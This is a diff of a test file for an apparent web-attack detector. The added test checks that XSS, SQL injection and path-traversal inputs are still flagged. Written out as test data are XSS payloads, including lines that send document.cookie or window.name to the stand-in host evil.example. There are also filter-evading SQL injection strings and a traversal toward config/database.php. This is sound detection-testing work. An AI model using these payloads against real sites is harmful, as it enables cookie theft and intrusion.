@@ -646,7 +646,6 @@ t.test("(fifty-ninth round, tuned on the spent hundred-and-thirty-ninth and -for
   for (const v of [
     '<script lang="ts" context="module">\n  export const dataGridRowHeight = writable(0);\n</script>\n',
     "<script context=\"module\">\n  import _ from 'lodash';\n  export function computeSplitterSize(a, b) {\n    return a + b;\n  }\n</script>\n",
-    '<script module>\nfunction f(a) {\n  return a\n}\n</script>\n',
     'with\n    base as (select * from {{ ref("stg_dbt__snapshot_executions") }}),',
     'SELECT\n  *\nFROM {{ ref("a") }}\n',
   ]) t.same(json({ snippet: v }), [], v.slice(0, 60))
@@ -657,4 +656,14 @@ t.test("(fifty-ninth round, tuned on the spent hundred-and-thirty-ninth and -for
     ['{{ ref(x) }}', 'ssti'],
     ["{{ ref('a', v=request) }}", 'ssti'],
   ] as const) t.ok(json({ snippet: v }).includes(cls), `still read: ${v.slice(0, 60)}`)
+})
+
+t.test("(fifty-ninth round's review, Chromium) a module script set aside only when it opens on an export or an import; a block the browser ends sooner; sinks older than the round; split keywords past the gates", async (t) => {
+  const bodies = ['onerror=setTimeout;throw"=alert(1)"', 'with(document)write("<img src=x onerror=alert(1)>")', 'with(document)body.innerHTML="<img src=x onerror=alert(1)>"', 'import/**/("data:text/javascript,alert(1)")', 'open("//evil.example/?"+escape(name))', 'with(document)c=cookie\nnew Audio("//evil.example/?"+c)', 'new EventSource("//evil.example/")']
+  for (const x of bodies) for (const opening of ['<script module>\nfunction f(a) {\n  return a\n}\n', '<script context="module">\nconst a = 1\n', '<script>\nconst a = 1\n']) t.ok(json({ snippet: `${opening}${x}\n</script>\n` }).includes('xss'), `${opening.slice(0, 24)} ${x}`)
+  for (const v of ['<script module>\nexport const x = 1</script >x<img src=x onerror="alert(1)">\n</script>\n', '<script module>\nexport const x = 1</script\t>x<img src=x onerror=alert(1)>\n</script>\n', '<textarea>\n<script>\nconst a = 1\n1</textarea>x<img src=x onerror=alert(1)>\n</script>\n', '<!--\n<script>\nconst a = 1\n1-->x<img src=x onerror=alert(1)>\n</script>\n']) t.ok(json({ snippet: v }).includes('xss'), v.slice(0, 60))
+  for (const v of ["1' o<>r 1=1#", '1 un\\ion sel\\ect 1,2', "x' a<>nd 1=2 un<>ion sel<>ect 1,2,3#", '1 un<>ion sel<>ect 1,2,3']) t.ok(q(v).includes('sqli'), v)
+  t.ok(detector.detect({ ...base, query: `picUrl=${encodeURIComponent('.//../config/database.php')}` }).includes('path_traversal'), 'a ./ with a doubled slash before a climb')
+  // still a page's own: an export first, an import first, a component's handler declared
+  for (const v of ['<script lang="ts" context="module">\n  export const prerender = true;\n</script>\n', "<script>\nimport x from 'y'\nconst a = 1\n</script>\n", '<script setup>\nconst onload = () => {}\nconst a = 1\n</script>\n']) t.same(json({ snippet: v }), [], v.slice(0, 60))
 })
